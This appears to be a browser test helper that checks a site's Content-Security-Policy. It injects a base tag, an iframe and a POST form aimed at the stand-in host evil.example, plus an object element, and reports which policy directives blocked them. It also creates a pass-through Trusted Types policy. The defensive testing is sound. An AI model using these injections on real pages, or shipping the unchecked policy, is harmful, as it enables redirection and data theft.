/** Injects what leads elsewhere into a page, as an attacker past Trusted Types would, and tells what the policy stopped. Runs in the page. */
export async function putAll(): Promise<{ isSameBase: boolean; stopped: string[]; path: string }> {
  interface Policy {
    createScriptURL(url: string): unknown
  }
  interface Types {
    createPolicy(name: string, rules: { createScriptURL: (url: string) => string }): Policy
  }
  const isTypes = (value: unknown): value is Types => typeof value === 'object' && value !== null
  const types: unknown = Reflect.get(window, 'trustedTypes')
  const policy = isTypes(types) ? types.createPolicy('dompurify', { createScriptURL: (url) => url }) : undefined

  const wanted = ['base-uri', 'form-action', 'frame-src', 'object-src']
  const heard = new Set<string>()
  const all = new Promise<void>((resolve) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      heard.add(effectiveDirective)
      if (wanted.every((name) => heard.has(name))) resolve()
    })
  })
  const { baseURI } = document
  const base = document.createElement('base')
  base.href = 'https://evil.example/'
  const frame = document.createElement('iframe')
  frame.src = 'https://evil.example/'
  const plugin = document.createElement('object')
  Reflect.set(plugin, 'data', policy?.createScriptURL('/insights') ?? '/insights')
  const form = document.createElement('form')
  form.action = 'https://evil.example/'
  form.method = 'post'
  document.body.append(base, frame, plugin, form)
  try {
    form.submit()
  } catch {
    // Firefox throws what the others only tell.
  }
  await all
  return {
    isSameBase: document.baseURI === baseURI,
    stopped: wanted.filter((name) => heard.has(name)),
    path: location.pathname,
  }
}
